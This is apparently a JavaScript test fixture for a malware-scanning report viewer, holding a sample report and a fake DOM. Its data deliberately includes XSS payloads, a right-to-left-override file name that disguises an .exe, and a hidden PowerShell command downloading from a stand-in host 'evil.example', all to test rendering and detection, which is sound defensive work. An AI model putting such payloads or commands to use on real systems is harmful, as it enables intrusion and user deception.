/**
 * What the unit tests share: a report with every kind of part, the catalogues,
 * and a document just large enough for `h()`.
 */
import { readFileSync } from "node:fs";

/** @param {string} code */
export const catalogue = (code) => JSON.parse(readFileSync(new URL(`../messages/${code}.json`, import.meta.url), "utf8"));

export const hostileName = "請求書\u202Efdp.exe";

/** @returns {any} */
export const sampleReport = () => ({
  schema: 1,
  engine: { version: "0.1.0", rules: "2026-11-22" },
  verdict: { level: "stop", incomplete: true, reasons: ["vba.auto-run-acts", "archive.encrypted"] },
  counts: { checked: 5, unchecked: 1 },
  checks: { kinds: "done", macros: "partly", codes: "not-done", mail: "not-applicable" },
  advice: ["B1", "M3", "E1", "B2", "B4"],
  artifacts: [
    { id: 0, parent: null, name: hostileName, origin: { kind: "input" }, format: "zip", class: "archive", size: 1234, sha256: "ab".repeat(32), status: "partial" },
    { id: 1, parent: 0, name: "<img src=x onerror=alert(1)>.xlsm", origin: { kind: "entry", path: "a/<img src=x onerror=alert(1)>.xlsm", password: false }, format: null, class: "document", size: 999, sha256: null, status: "locked" },
  ],
  findings: [
    { id: "archive.encrypted", severity: "unchecked", artifact: 0, advice: "E1", values: { names: "a.xlsm" }, evidence: [], more: 0 },
    { id: "vba.auto-run-acts", severity: "stop", artifact: 1, advice: "M3", values: { trigger: "Workbook_Open", action: "run" },
      evidence: [{ path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "Shell \"https://evil.example/a\"\r\n<script>alert(1)</script>" }], more: 2 },
    { id: "file.irregular", severity: "none", artifact: 0, advice: null, values: { what: "x" }, evidence: [], more: 0 },
  ],
  actions: [
    { artifact: 1, kind: "run", detail: "powershell -w hidden \u202Ehttps://evil.example/b <b>", automatic: true, trigger: "Workbook_Open", decoded: false,
      at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
    { artifact: 1, kind: "download", detail: "https://evil.example/b", automatic: true, trigger: "Workbook_Open", decoded: true,
      at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
  ],
  more_actions: 4,
  story: [
    { step: "open", artifact: 0, detail: "" },
    { step: "inside", artifact: 1, detail: "" },
    { step: "start", artifact: 1, detail: "Workbook_Open", at: { path: "VBA/ThisWorkbook", line: 2, offset: null, excerpt: "Private Sub Workbook_Open()" } },
    { step: "run", artifact: 1, detail: "powershell -w hidden \u202Ehttps://evil.example/b <b>",
      at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
    { step: "download", artifact: 1, detail: "https://evil.example/b", at: { path: "VBA/ThisWorkbook", line: 3, offset: null, excerpt: "CreateObject(x).Run y" } },
  ],
  listings: [{ artifact: 1, path: "VBA/This<b>Workbook", stretches: [{ line: 1, text: "' \u202E<script>alert(1)</script>\r\nPrivate Sub Workbook_Open()\rCreateObject(x).Run y ' https://evil.example/c\nEnd Sub\n" }], marked: [2, 3], cut: true }],
  more_listings: 3,
});

/** A node that remembers what was done to it; markup in text stays text. */
class FakeNode {
  /** @param {string} tag */
  constructor(tag) {
    this.checked = false;
    this.value = "";
    this.tag = tag;
    /** @type {Record<string, string>} */
    this.attributes = {};
    /** @type {FakeNode[]} */
    this.children = [];
    /** @type {Record<string, Function>} */
    this.listeners = {};
    this.own = "";
    this.open = false;
  }

  setAttribute(/** @type {string} */ name, /** @type {string} */ value) { this.attributes[name] = value; }
  addEventListener(/** @type {string} */ name, /** @type {Function} */ listener) { this.listeners[name] = listener; }
  append(/** @type {FakeNode[]} */ ...nodes) { this.children.push(...nodes); }
  replaceChildren(/** @type {FakeNode[]} */ ...nodes) { this.children = nodes; }
  set textContent(text) { this.own = text; this.children = []; }
  /** @returns {string} */
  get textContent() { return this.own + this.children.map((child) => child.textContent).join(""); }
  /** @returns {FakeNode[]} */
  get all() { return [this, ...this.children.flatMap((child) => child.all)]; }
  find(/** @type {(node: FakeNode) => boolean} */ test) { return this.all.filter(test); }
  byClass(/** @type {string} */ name) { return this.find((node) => (node.attributes.class ?? "").split(" ").includes(name)); }
  byTag(/** @type {string} */ tag) { return this.find((node) => node.tag === tag); }
}

export function fakeDocument() {
  const make = (/** @type {string} */ tag) => new FakeNode(tag);
  Object.assign(globalThis, { document: {
    createElement: make,
    createElementNS: (/** @type {string} */ _, /** @type {string} */ tag) => make(tag),
    createTextNode: () => make("#text"),
  } });
}
